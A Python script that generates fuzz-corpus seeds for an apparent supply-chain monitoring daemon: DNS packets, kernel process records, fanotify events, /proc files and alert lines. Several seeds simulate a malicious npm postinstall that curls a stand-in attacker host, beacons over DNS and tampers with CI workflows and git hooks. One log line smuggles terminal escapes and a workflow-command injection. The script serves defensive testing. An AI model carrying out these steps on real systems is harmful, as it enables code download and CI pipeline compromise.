#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
"""Write the hand-built seeds of the fuzz corpora (tests/fuzz/corpus/).

    tests/fuzz/mkseeds.py            # from the repository root

DNS messages and packets, ring-buffer records and fanotify reads are built
byte by byte in the layouts of include/depsentry.h and the kernel's uapi
headers; /proc files are read from processes started here with a fixed
environment; resolv.conf files, /proc files that would name this machine
(mountinfo, cgroup) and a few alert lines are written as text. The seeds
are committed: run this only to change them. The rest of the corpora (the
shipped configuration, alert lines rendered by the daemon, crash
reproducers kept as regression tests) are files of their own.
"""
import os
import struct
import subprocess

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "corpus")


def put(corpus, name, data):
    d = os.path.join(ROOT, corpus)
    os.makedirs(d, exist_ok=True)
    if isinstance(data, str):
        data = data.encode()
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)


# ---------------------------------------------------------------- DNS

def labels(name):
    out = b""
    for label in name.split("."):
        if label:
            out += bytes([len(label)]) + label.encode()
    return out


def qname(name):
    return labels(name) + b"\0"


def header(ident, flags, qd, an, ns=0, ar=0):
    return struct.pack(">HHHHHH", ident, flags, qd, an, ns, ar)


def rr(owner, rtype, ttl, rdata, rclass=1):
    return owner + struct.pack(">HHIH", rtype, rclass, ttl, len(rdata)) + rdata


A, NS, CNAME, SOA, TXT, AAAA, OPT = 1, 2, 5, 6, 16, 28, 41
PTR_Q = b"\xc0\x0c"	# a pointer to the question name


def opt_rr():
    return b"\0" + struct.pack(">HHIH", OPT, 1232, 0, 0)


def dns_seeds():
    q = header(0x1d2e, 0x0100, 1, 0) + qname("registry.npmjs.org") + struct.pack(">HH", A, 1)
    put("dns", "query-a", q)
    # an answer as a resolver gives it: the question name by pointer
    a = (header(0x1d2e, 0x8180, 1, 2) + qname("registry.npmjs.org") +
         struct.pack(">HH", A, 1) +
         rr(PTR_Q, A, 300, bytes([192, 0, 2, 10])) +
         rr(PTR_Q, A, 300, bytes([192, 0, 2, 11])))
    put("dns", "answer-a", a)
    # a CNAME chain, the target compressed against the question
    cname_target = labels("registry.npmjs.org.cdn") + b"\xc0\x15"	# "cdn" then "npmjs.org"
    c = (header(0x4a01, 0x8180, 1, 3) + qname("registry.npmjs.org") +
         struct.pack(">HH", AAAA, 1) +
         rr(PTR_Q, CNAME, 60, cname_target) +
         rr(b"\xc0\x30", AAAA, 120, bytes.fromhex("20010db8000000000000000000000010")) +
         rr(b"\xc0\x30", AAAA, 120, bytes.fromhex("20010db8000000000000000000000011")))
    put("dns", "answer-cname-aaaa", c)
    nx = (header(0x0bad, 0x8183, 1, 0, 1, 1) + qname("6e6f.beacon.attacker.test") +
          struct.pack(">HH", A, 1) +
          rr(b"\xc0\x18", SOA, 900, qname("ns1.attacker.test") + qname("hostmaster.attacker.test") +
             struct.pack(">IIIII", 2026112301, 7200, 3600, 1209600, 900)) + opt_rr())
    put("dns", "answer-nxdomain-soa", nx)
    txt = (header(0x7777, 0x8180, 1, 1) + qname("x.exfil.test") + struct.pack(">HH", TXT, 1) +
           rr(PTR_Q, TXT, 30, b"\x0bhello world\x05again"))
    put("dns", "answer-txt", txt)
    # the root zone's name servers: the question is the root name "."
    root = (header(0x0001, 0x8180, 1, 1, 0, 1) + b"\0" + struct.pack(">HH", NS, 1) +
            rr(b"\0", NS, 518400, qname("a.root-servers.net")) +
            rr(b"\xc0\x1c", A, 518400, bytes([198, 41, 0, 4])))
    put("dns", "answer-root-ns", root)
    root_a = (header(0x0002, 0x8180, 1, 1) + b"\0" + struct.pack(">HH", A, 1) +
              rr(b"\0", A, 60, bytes([192, 0, 2, 99])))
    put("dns", "answer-root-a", root_a)
    put("dns", "ipv4-udp-answer", ipv4_udp((192, 0, 2, 53), (192, 0, 2, 1), 53, 40001, a))
    put("dns", "ipv4-udp-query", ipv4_udp((192, 0, 2, 1), (192, 0, 2, 53), 40001, 53, q))
    put("dns", "ipv6-udp-answer", ipv6_udp(bytes.fromhex("20010db8000000000000000000000035"),
                                           bytes.fromhex("20010db8000000000000000000000001"),
                                           53, 40002, c))


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(">%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def ipv4_udp(src, dst, sport, dport, payload):
    udp = struct.pack(">HHHH", sport, dport, 8 + len(payload), 0) + payload
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0x1234, 0x4000, 64, 17, 0,
                     bytes(src), bytes(dst))
    ip = ip[:10] + struct.pack(">H", csum(ip)) + ip[12:]
    return ip + udp


def ipv6_udp(src, dst, sport, dport, payload):
    udp = struct.pack(">HHHH", sport, dport, 8 + len(payload), 0) + payload
    return struct.pack(">IHBB16s16s", 0x60000000, len(udp), 17, 64, src, dst) + udp


# ---------------------------------------------------------------- records

EXEC, FORK, EXIT, CONNECT, FILE = 1, 2, 3, 4, 5
F_TRACKED, F_ENV_PRESENT = 1 << 7, 1 << 8
SEC = 1000000000


def hdr(rtype, flags, size, ts, start, pid):
    return struct.pack("<HHIQQII", rtype, flags, size, ts, start, pid, pid)


def comm(name):
    return name.encode()[:15].ljust(16, b"\0")


def comps(path):
    """a path as the kernel walks it: components leaf first, each NUL-terminated"""
    return b"".join(c.encode() + b"\0" for c in reversed(path.strip("/").split("/")) if c)


def rec_exec(pid, start, ppid, pstart, argv, filename, exe, cwd, env=None, session=0,
             flags=0, ts=None):
    args = b"".join(a.encode() + b"\0" for a in argv)
    fname = filename.encode() + b"\0"
    exe_b, cwd_b = comps(exe), comps(cwd)
    env_b = b"".join(e.encode() + b"\0" for e in env) if env is not None else b""
    if env is not None:
        flags |= F_ENV_PRESENT
    data = args + fname + exe_b + cwd_b + env_b
    size = 112 + len(data)
    # exe_mode 0100755, dir_mode 040755, the executable's ctime (wall ns)
    body = struct.pack("<IIIIQQQHHHHHHH2xq", ppid, 1000, 1000, 0, pstart, 4242, session,
                       len(args), len(fname), len(exe_b), len(cwd_b), len(env_b),
                       0o100755, 0o40755, 1764000000 * 10**9)
    return hdr(EXEC, flags, size, ts or start + 1000, start, pid) + body + \
        comm(os.path.basename(exe)) + data


def rec_fork(pid, start, ppid, pstart, session=0, flags=0):
    return hdr(FORK, flags, 56, start, start, pid) + struct.pack("<IIQQ", ppid, 0, pstart, session)


def rec_exit(pid, start, ts, code=0):
    return hdr(EXIT, 0, 40, ts, start, pid) + struct.pack("<II", code, 0)


def rec_connect(pid, start, ts, family, daddr, dport, saddr, sport, proto, stype, name,
                ret=0, session=0):
    body = struct.pack("<QiHHHHHH16s16s", session, ret, family, proto, stype, sport, dport, 0,
                       saddr.ljust(16, b"\0"), daddr.ljust(16, b"\0"))
    return hdr(CONNECT, 0, 104, ts, start, pid) + body + comm(name)


def rec_file(pid, start, ts, op, path, name=b"", old_dir=b"", old_name=b"", session=0,
             atime=0, who="sh", flags=0):
    data = path + name + old_dir + old_name
    body = struct.pack("<QQIIHHHHH6xq", session, 131077, 0x800001, 4026531841, op, len(path),
                       len(name), len(old_dir), len(old_name), atime)
    return hdr(FILE, flags, 96 + len(data), ts, start, pid) + body + comm(who) + data


def framed(*records):
    return b"".join(struct.pack("<H", len(r)) + r for r in records)


def record_seeds():
    t = 5000 * SEC
    npm_env = ["PATH=/usr/bin:/bin", "HOME=/home/dev", "npm_lifecycle_event=postinstall",
               "npm_package_name=evil-pkg", "npm_package_version=1.2.3",
               "npm_config_user_agent=npm/11.0.0 node/v20.18.0 linux x64",
               "GITHUB_ACTIONS=true", "CI=true", "GITHUB_REPOSITORY=octo/app",
               "GITHUB_RUN_ID=4242", "GITHUB_JOB=build", "GITHUB_SERVER_URL=https://github.com"]
    npm = rec_exec(6308, t, 6300, t - SEC, ["node", "/usr/bin/npm", "install",
                                            "../evil/evil-pkg-1.2.3.tgz"],
                   "/usr/bin/npm", "/usr/bin/node", "/tmp/proj")
    sh_fork = rec_fork(6320, t + 10 * SEC, 6308, t, session=1, flags=F_TRACKED)
    sh = rec_exec(6320, t + 10 * SEC, 6308, t, ["sh", "-c", "whoami; id"], "/bin/sh",
                  "/usr/bin/dash", "/tmp/proj/node_modules/evil-pkg", env=npm_env, session=1,
                  flags=F_TRACKED)
    who_fork = rec_fork(6322, t + 11 * SEC, 6320, t + 10 * SEC, session=1, flags=F_TRACKED)
    who = rec_exec(6322, t + 11 * SEC, 6320, t + 10 * SEC, ["whoami"], "/usr/bin/whoami",
                   "/usr/bin/whoami", "/tmp/proj/node_modules/evil-pkg", env=npm_env,
                   session=1, flags=F_TRACKED)
    put("record", "npm-postinstall-whoami",
        framed(npm, sh_fork, sh, who_fork, who, rec_exit(6322, t + 11 * SEC, t + 12 * SEC),
               rec_exit(6320, t + 10 * SEC, t + 13 * SEC, 256), rec_exit(6308, t, t + 14 * SEC)))
    curl = rec_exec(6330, t + 20 * SEC, 6320, t + 10 * SEC,
                    ["curl", "-s", "http://exfil.attacker.test/x", "-o", "/tmp/x"],
                    "/usr/bin/curl", "/usr/bin/curl", "/tmp/proj", env=npm_env, session=1,
                    flags=F_TRACKED)
    conn4 = rec_connect(6330, t + 20 * SEC, t + 21 * SEC, 2, bytes([192, 0, 2, 9]), 443,
                        bytes([192, 0, 2, 1]), 40001, 6, 1, "curl", ret=-115, session=1)
    conn6 = rec_connect(6330, t + 20 * SEC, t + 22 * SEC, 10,
                        bytes.fromhex("20010db8000000000000000000000007"), 80,
                        bytes.fromhex("20010db8000000000000000000000001"), 40002, 6, 1, "curl",
                        session=1)
    dns = rec_connect(6330, t + 20 * SEC, t + 20 * SEC + 5, 2, bytes([127, 0, 0, 53]), 53,
                      bytes([127, 0, 0, 1]), 53001, 17, 2, "curl", session=1)
    put("record", "npm-curl-connects", framed(npm, sh_fork, sh, curl, dns, conn4, conn6, conn4))
    wf = comps("/tmp/proj/.github/workflows/ci.yml")
    write = rec_file(6340, t + 30 * SEC, t + 31 * SEC, 1, wf, atime=0, who="sh")
    shx = rec_exec(6340, t + 30 * SEC, 1, 1, ["sh", "-c", "echo x > .github/workflows/ci.yml"],
                   "/bin/sh", "/usr/bin/dash", "/tmp/proj")
    put("record", "write-workflow", framed(shx, write, rec_exit(6340, t + 30 * SEC, t + 32 * SEC)))
    mv = rec_exec(6350, t + 40 * SEC, 6320, t + 10 * SEC,
                  ["mv", "build.tmp", "/tmp/proj/Makefile"], "/bin/mv", "/usr/bin/mv",
                  "/tmp/proj/node_modules/evil-pkg", env=npm_env, session=1, flags=F_TRACKED)
    ren = rec_file(6350, t + 40 * SEC, t + 41 * SEC, 2, b"", b"/tmp/proj/Makefile\0",
                   comps("/tmp/proj/node_modules/evil-pkg"), b"build.tmp\0", session=1, who="mv")
    rel = rec_file(6350, t + 40 * SEC, t + 42 * SEC, 2, comps("/tmp/proj/.git"),
                   b"hooks/pre-commit\0", comps("/tmp/proj"), b"x\0", session=1, who="mv")
    lnk = rec_file(6350, t + 40 * SEC, t + 43 * SEC, 3, comps("/tmp/proj"), b".gitlab-ci.yml\0",
                   comps("/tmp"), b"evil.yml\0", session=1, who="ln")
    put("record", "session-rename-link", framed(npm, sh_fork, sh, mv, ren, rel, lnk))
    put("record", "exec-alone", framed(npm))
    put("record", "fork-alone", framed(sh_fork))
    put("record", "exit-alone", framed(rec_exit(6308, t, t + 14 * SEC)))
    put("record", "connect-alone", framed(conn4))
    put("record", "file-alone", framed(write))
    # an access time at the end of the 64-bit range (files.c added to it)
    put("record", "regress-atime-max",
        framed(shx, rec_file(6340, t + 30 * SEC, t + 31 * SEC, 1, wf, atime=2**63 - 1, who="sh")))


# ---------------------------------------------------------------- fanotify

FAN_MOVED_FROM, FAN_MOVED_TO, FAN_ONDIR, FAN_Q_OVERFLOW = 0x40, 0x80, 0x40000000, 0x4000
INFO_FID, INFO_DFID_NAME = 1, 2


def fid_info(info_type, ino, name=None):
    handle = struct.pack("<II", 8, 1) + struct.pack("<II", ino, 0x5eed)	# ext4: ino32 + gen
    body = struct.pack("<ii", 0x2a3b4c5d, 0x11223344) + handle
    if name is not None:
        body += name.encode() + b"\0"
    n = 4 + len(body)
    pad = (-n) % 4
    return struct.pack("<BBH", info_type, 0, n + pad) + body + b"\0" * pad


def fan_event(mask, pid, *infos):
    info = b"".join(infos)
    return struct.pack("<IBBHQii", 24 + len(info), 3, 0, 24, mask, -1, pid) + info


def fanotify_seeds():
    # sed -i: the temporary file renamed onto the workflow; the name
    # lengths put the second event at an offset that is 4 mod 8, as the
    # kernel does (information records are aligned on 4 bytes only)
    put("fanotify", "sed-rename",
        fan_event(FAN_MOVED_FROM, 7001, fid_info(INFO_DFID_NAME, 1311, "sedAb3xQ")) +
        fan_event(FAN_MOVED_TO, 7001, fid_info(INFO_DFID_NAME, 1311, "ci.yml")))
    put("fanotify", "dir-rename",
        fan_event(FAN_MOVED_FROM | FAN_ONDIR, 7002, fid_info(INFO_DFID_NAME, 12, "wf.new")) +
        fan_event(FAN_MOVED_TO | FAN_ONDIR, 7002, fid_info(INFO_DFID_NAME, 1300, "workflows")))
    put("fanotify", "moved-to-alone",
        fan_event(FAN_MOVED_TO, 7003, fid_info(INFO_DFID_NAME, 77, "Makefile")))
    put("fanotify", "two-infos",
        fan_event(FAN_MOVED_TO, 7004, fid_info(INFO_DFID_NAME, 77, ".gitlab-ci.yml"),
                  fid_info(INFO_FID, 78)))
    put("fanotify", "overflow", struct.pack("<IBBHQii", 24, 3, 0, 24, FAN_Q_OVERFLOW, -1, 0))


# ---------------------------------------------------------------- text

RESOLV = {
    "resolved-stub": "# This is /run/systemd/resolve/stub-resolv.conf managed by man:systemd-resolved(8).\n"
                     "# Do not edit.\n\nnameserver 127.0.0.53\noptions edns0 trust-ad\nsearch .\n",
    "dhcp": "domain example.internal\nsearch example.internal\nnameserver 192.0.2.53\n"
            "nameserver 198.51.100.53\nnameserver 2001:db8::53\n",
    "link-local": "; a router's link-local address\nnameserver fe80::1%eth0\nnameserver ::ffff:192.0.2.1\n"
                  "options timeout:2 attempts:3 rotate\n",
    "container": "nameserver 10.96.0.10\nsearch default.svc.cluster.local svc.cluster.local cluster.local\n"
                 "options ndots:5\n",
}

MOUNTINFO = """21 26 0:20 / /proc rw,nosuid,nodev,noexec,relatime shared:12 - proc proc rw
22 26 0:21 / /sys rw,nosuid,nodev,noexec,relatime shared:7 - sysfs sysfs rw
23 26 0:5 / /dev rw,nosuid,relatime shared:2 - devtmpfs udev rw,size=4010000k,nr_inodes=1002500,mode=755,inode64
24 23 0:22 / /dev/pts rw,nosuid,noexec,relatime shared:3 - devpts devpts rw,gid=5,mode=620,ptmxmode=000
25 26 0:23 / /run rw,nosuid,nodev,noexec,relatime shared:5 - tmpfs tmpfs rw,size=804000k,mode=755,inode64
26 1 254:1 / / rw,relatime shared:1 - ext4 /dev/vda1 rw,errors=remount-ro
27 22 0:26 / /sys/fs/cgroup rw,nosuid,nodev,noexec,relatime shared:9 - cgroup2 cgroup2 rw,nsdelegate,memory_recursiveprot
30 26 254:2 / /home rw,relatime shared:30 - ext4 /dev/vda2 rw
31 26 8:1 / /boot/efi rw,relatime shared:31 - vfat /dev/sda1 rw,fmask=0077,dmask=0077,codepage=437,iocharset=ascii,shortname=mixed,utf8,errors=remount-ro
40 30 254:2 /dev/src /srv/src rw,relatime shared:30 - ext4 /dev/vda2 rw
41 25 0:45 / /run/user/1000 rw,nosuid,nodev,relatime shared:40 - tmpfs tmpfs rw,size=802000k,nr_inodes=200500,mode=700,uid=1000,gid=1000,inode64
42 41 0:46 / /run/user/1000/gvfs rw,nosuid,nodev,relatime shared:41 - fuse.gvfsd-fuse gvfsd-fuse rw,user_id=1000,group_id=1000
43 26 0:47 / /var/lib/docker/overlay2/0a1b/merged rw,relatime - overlay overlay rw,lowerdir=/var/lib/docker/overlay2/l/AB:/var/lib/docker/overlay2/l/CD,upperdir=/var/lib/docker/overlay2/0a1b/diff,workdir=/var/lib/docker/overlay2/0a1b/work
44 26 8:17 / /media/dev/USB\\040Stick\\011(2) rw,nosuid,nodev,relatime shared:44 - vfat /dev/sdb1 rw,uid=1000,gid=1000
"""

CGROUPS = {
    "cgroup-v2-session": "0::/user.slice/user-1000.slice/session-2.scope\n",
    "cgroup-v2-docker": "0::/system.slice/docker-3f2a9c1d7be04a8f9a6e5c4d3b2a1f0e9d8c7b6a5f4e3d2c1b0a9f8e7d6c5b4a.scope\n",
    "cgroup-v1-kubepods": "12:pids:/kubepods/burstable/pod1c2d3e4f-0000-4000-8000-000000000001/"
                          "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\n"
                          "11:memory:/kubepods/burstable/pod1c2d3e4f-0000-4000-8000-000000000001/"
                          "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\n"
                          "0::/\n",
}


def proc_read(what, argv, env):
    """/proc/PID/WHAT of a process started here with exactly env"""
    p = subprocess.Popen(argv, env=env, stdin=subprocess.PIPE)
    try:
        with open("/proc/%d/%s" % (p.pid, what), "rb") as f:
            return f.read()
    finally:
        p.stdin.close()
        p.wait()


def procfs_seeds():
    env = {"PATH": "/usr/bin:/bin", "HOME": "/home/dev", "npm_lifecycle_event": "postinstall",
           "npm_package_name": "evil-pkg", "npm_package_version": "1.2.3", "CI": "true",
           "GITHUB_ACTIONS": "true", "GITHUB_REPOSITORY": "octo/app", "GITHUB_RUN_ID": "4242"}
    argv = ["/usr/bin/python3", "-c", "import sys; sys.stdin.read()", "install", "evil-pkg"]
    put("procfs", "environ", proc_read("environ", argv, env))
    put("procfs", "cmdline", proc_read("cmdline", argv, env))
    put("procfs", "stat", proc_read("stat", argv, env))
    put("procfs", "status", proc_read("status", argv, env))
    # a name the process chose: spaces and parentheses
    put("procfs", "stat-hostile-comm",
        b"4242 (a) (b c) S 1 4242 4242 0 -1 4194560 90 0 0 0 0 0 0 0 20 0 1 0 "
        b"123456 2490368 200 18446744073709551615 1 1 0 0 0 0 0 0 0 0 0 0 17 1 0 0 0 0 0\n")
    put("procfs", "mountinfo", MOUNTINFO)
    for name, text in CGROUPS.items():
        put("procfs", name, text)


REPORT_EXTRA = [
    # lines a log may hold that are not alerts
    "",
    "not json",
    '{"@timestamp":"2026-11-23T09:41:26.650Z","event":{"kind":"alert"}}',
    '{"@timestamp":"2026-11-23T09:41:26+01:00","event":{"kind":"event","action":"repeated",'
    '"severity":47},"rule":{"id":"pm-unexpected-egress"},"depsentry":{"severity":"medium",'
    '"network":{"repeats":7}}}',
    '{"@timestamp":"9999-12-31T23:59:59.999999999Z","event":{"kind":"alert","severity":99},'
    '"rule":{"id":"cicd-file-modified"},"file":{"path":"/w/.github/workflows/\\u202eci.yml"},'
    '"process":{"name":"sh\\u001b[2J","command_line":"::set-output name=x::y"}}',
]


def text_seeds():
    for name, text in RESOLV.items():
        put("resolv", name, text)
    put("report", "not-alerts", "\n".join(REPORT_EXTRA) + "\n")


if __name__ == "__main__":
    dns_seeds()
    record_seeds()
    fanotify_seeds()
    procfs_seeds()
    text_seeds()
